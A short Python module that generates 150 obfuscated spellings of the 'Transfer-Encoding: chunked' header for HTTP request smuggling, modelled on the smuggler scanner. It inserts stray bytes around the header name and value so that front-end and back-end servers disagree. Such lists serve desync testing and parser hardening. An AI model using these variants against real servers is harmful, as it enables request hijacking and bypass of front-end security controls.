"""150 ways to write `Transfer-Encoding: chunked` so that two servers may disagree about it.

Ten positions for each of fifteen bytes, in the manner of smuggler (defparam). Some of them are
plain fields of another name or value; whoever reads those as chunks sees a second request.
"""

from __future__ import annotations

STRAY = (0x00, 0x01, 0x08, 0x09, 0x0A, 0x0B, 0x0C, 0x0D, 0x1F, 0x20, 0x7F, 0x80, 0x85, 0xA0, 0xFF)
POSITIONS = {
    "before the name": b"%cTransfer-Encoding: chunked",
    "in the name": b"Transfer%c-Encoding: chunked",
    "after the name": b"Transfer-Encoding%c: chunked",
    "before the value": b"Transfer-Encoding:%cchunked",
    "in the value": b"Transfer-Encoding: chun%cked",
    "after the value": b"Transfer-Encoding: chunked%c",
    "before a comma": b"Transfer-Encoding: chunked%c, identity",
    "behind another value": b"X: X%cTransfer-Encoding: chunked",
    "behind another value and CR": b"X: X\r%cTransfer-Encoding: chunked",
    "behind a line's end": b"X: X\r\n%c\r\nTransfer-Encoding: chunked",
}


def obfuscated_codings() -> dict[str, bytes]:
    """Return the 150 fields, without the end of their line, by name."""
    return {
        f"{byte:#04x} {position}": field.replace(b"%c", bytes([byte]))
        for byte in STRAY
        for position, field in POSITIONS.items()
    }
